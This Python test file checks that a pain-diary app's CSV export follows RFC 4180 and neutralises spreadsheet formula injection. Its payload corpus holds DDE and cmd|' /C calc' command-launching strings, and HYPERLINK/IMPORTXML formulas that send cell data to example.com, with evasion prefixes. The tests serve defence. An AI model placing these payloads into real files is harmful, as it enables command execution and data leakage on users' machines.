"""The CSV: one row for each entry, readable by everybody, and no formula lives in it."""

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from itertools import product

import pandas
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from diary.reports.csv import BYTE_ORDER_MARK, COLUMNS, Whose, harmless, lines, lines_of, render
from diary.reports.facts import EntryLine
from tests.diary.reports.build import BEGIN, DAY, MAYA, line, summary_of

quickly = settings(max_examples=60, deadline=None)
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\x00", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com?x="&A1,"click")',
    "1+1",
    "SUM(1,2)*cmd|'/c powershell'!A1",
    'IMPORTXML(CONCAT("http://",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "2-5",
)
BEFORE = ("", " ", "\n", "\u200b", "\ufeff", '"', "'", "\u202e", "\xa0", "5;", '";')
CORPUS = [before + sign + payload for before, sign, payload in product(BEFORE, SIGNS, PAYLOADS)]


def rows(content: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter, strict=True))


def is_formula(cell: str) -> bool:
    """What a spreadsheet would calculate: the first character after blanks and what it does not see."""
    seen = cell.lstrip(' \t\r\n\xa0\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\ufeff"')
    return seen[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") or cell[:1] in ("\t", "\r", "\x00")


def test_each_entry_is_a_row_and_each_number_a_number():
    summary = summary_of(
        [
            line(1, BEGIN, 3.0, note="Fine."),
            line(
                2,
                BEGIN + DAY,
                6.5,
                "fever",
                nrs_worst=8.0,
                session=1,
                hours=12.5,
                medicines=("ibuprofen 400 mg", "tea"),
            ),
        ],
        sessions=(),
    )
    first, second = rows(render(summary))

    assert tuple(first) == COLUMNS
    assert (first["patient"], first["birth_date"], first["nrs_average"], first["note"]) == (
        *("Maya Lindqvist", "1958-03-14", "3", "Fine."),
    )
    assert (second["nrs_average"], second["nrs_worst"], second["nrs_now"]) == ("6.5", "8", "")
    assert (second["session"], second["hours_since_session"], second["symptoms"]) == ("1", "12.5", "fever")
    assert second["medicines"] == "ibuprofen 400 mg; tea"
    assert (second["recorded_at_utc"], second["local_day"]) == ("2026-02-03T09:00:00Z", "2026-02-03")
    assert (second["rules_version"], second["remark"]) == ("2026.1", "patient-reported; not a diagnosis")


def test_it_follows_rfc_4180():
    content = render(summary_of([line(1, BEGIN, 3.0, note='He said "no",\r\nthen left.')], sessions=())).decode()

    assert content.startswith(f'{BYTE_ORDER_MARK}"patient","birth_date"')
    assert content.endswith("\r\n")
    assert '"He said ""no"",\r\nthen left."' in content
    assert rows(content.encode())[0]["note"] == 'He said "no",\r\nthen left.'


def test_what_is_not_known_is_empty_and_never_zero():
    [row] = rows(render(summary_of([line(1, BEGIN, 0.0)], sessions=())))

    assert row["nrs_average"] == "0"
    assert [row[name] for name in ("nrs_worst", "stiffness", "session", "none_of_these", "change")] == [""] * 5


def test_an_empty_diary_has_its_header_only():
    assert rows(render(summary_of([], sessions=()))) == []


def test_it_comes_line_by_line():
    stream = lines(summary_of([line(1, BEGIN, 3.0), line(2, BEGIN + DAY, 4.0)], sessions=()))

    assert next(stream).count(",") == len(COLUMNS) - 1
    assert len(list(stream)) == 2


def test_the_corpus_is_large_enough_to_mean_something():
    assert len(set(CORPUS)) >= 400


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_formula_lives_in_it_however_it_is_split(delimiter: str):
    entries = [
        line(
            number,
            BEGIN + number * DAY,
            3.0,
            note=text,
            medicines=(text, text),
            events=(text,),
            other_treatments=(text,),
        )
        for number, text in enumerate(CORPUS)
    ]
    summary = summary_of(entries, sessions=(), patient=replace(MAYA, name="=1+1"))
    text = render(summary).decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert len(cells) > len(entries)
    assert not [cell for cell in cells if is_formula(cell)]


@quickly
@given(st.text())
def test_harmless_text_is_never_a_formula_and_only_gains_apostrophes(text: str):
    shown = harmless(text)

    assert not is_formula(shown)
    assert shown.replace("'", "") == text.replace("'", "").replace("\x00", "")


@quickly
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00")))
def test_every_note_comes_back_as_it_was_written(note: str):
    [row] = rows(render(summary_of([line(1, BEGIN, 3.0, note=note)], sessions=())))

    assert row["note"].replace("'", "") == note.replace("'", "")


@pytest.mark.parametrize("text", ["Hard to sit.", "5 - 3 days", "a@b.example", "2+2", "it's fine", "Müller; Köln"])
def test_plain_words_are_left_alone(text: str):
    assert harmless(text) == text


def test_a_line_leaves_before_the_next_entry_is_read():
    """So a diary of any length needs the memory of one row."""
    read: list[int] = []

    def entries() -> Iterator[EntryLine]:
        for number in range(100_000):
            read.append(number)
            yield line(number, BEGIN, 3.0)

    sent = lines_of(Whose("Maya", "1958-03-14", "2026.1"), entries())
    assert [next(sent)[:9], next(sent)[:6], len(read)] == ['\ufeff"patient', '"Maya"', 1]


@pytest.mark.parametrize("note", ["=1+1", "a;=1+1", "x\n=cmd", 'ü,"quoted"', "\u202e@x", "W" * 10_000])
def test_pandas_reads_it_as_it_was_meant(note: str):
    content = render(summary_of([line(1, BEGIN, 3.0), line(2, BEGIN + DAY, 6.5, note=note)], sessions=()))
    table = pandas.read_csv(io.BytesIO(content))

    assert list(table.columns) == list(COLUMNS)
    assert list(table["nrs_average"]) == [3.0, 6.5]
    assert table["note"][1] == harmless(note)
    assert not is_formula(str(table["note"][1]))
